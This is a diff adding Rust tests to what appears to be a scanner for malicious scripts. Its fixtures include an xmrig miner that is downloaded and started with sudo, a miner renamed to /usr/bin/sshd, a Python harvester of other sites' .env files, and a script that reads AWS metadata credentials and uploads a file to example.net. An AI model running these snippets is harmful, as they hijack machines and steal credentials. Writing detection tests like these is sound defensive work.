@@ -546,3 +546,27 @@ fn a_page_put_onto_every_site_of_a_list_is_a_mass_defacer() {
     // One upload to one address: a deploy script.
     assert_eq!(whys("import requests\nrequests.put(base + '/' + name, data=open(name).read())\n"), []);
 }
+
+#[test]
+fn a_miners_release_downloaded_and_started_is_found() {
+    let unpacked = "#!/bin/bash\nmkdir -p /tmp/xmrig; cd /tmp/xmrig\n\
+                    $DOWNLOAD_CMD https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz\n\
+                    tar -xf xmrig-6.22.2-linux-static-x64.tar.gz\nchmod +x xmrig\nsudo -n ./xmrig\n";
+    assert_eq!(whys(unpacked), [Why::StartsProgram]);
+    let renamed = "#!/bin/bash\nwget \"https://example.org/raw/main/xmrig.tgz\"\ntar -zxvf xmrig.tgz\nmv minerd /usr/bin/sshd\n/usr/bin/sshd\n";
+    assert_eq!(whys(renamed), [Why::StartsProgram]);
+    // A page about miners that links to the release: nothing started.
+    assert_eq!(whys("#!/bin/sh\necho 'see https://github.com/xmrig/xmrig/releases'\n"), []);
+}
+
+#[test]
+fn harvesters_of_other_sites_env_files_and_the_clouds_credentials_are_found() {
+    let env = "import requests\ndef grab(sites):\n    meki = requests.get(sites + '/.env', timeout=8)\n\
+               if 'MAIL_PASSWORD' in meki.text:\n        save(meki.text)\n";
+    assert_eq!(whys(env), [Why::ReadsOtherSites]);
+    let cloud = "#!/bin/bash\nAWS=$(curl -sLk http://169.254.169.254/latest/meta-data/iam/security-credentials/)\n\
+                 curl -F \"f=@$CSOF\" http://example.net/up\n";
+    assert_eq!(whys(cloud), [Why::ReadsOtherSites]);
+    // A deploy script that writes its own `.env`: no one else's asked for.
+    assert_eq!(whys("#!/bin/sh\necho \"MAIL_PASSWORD=$PW\" >> .env\n"), []);
+}
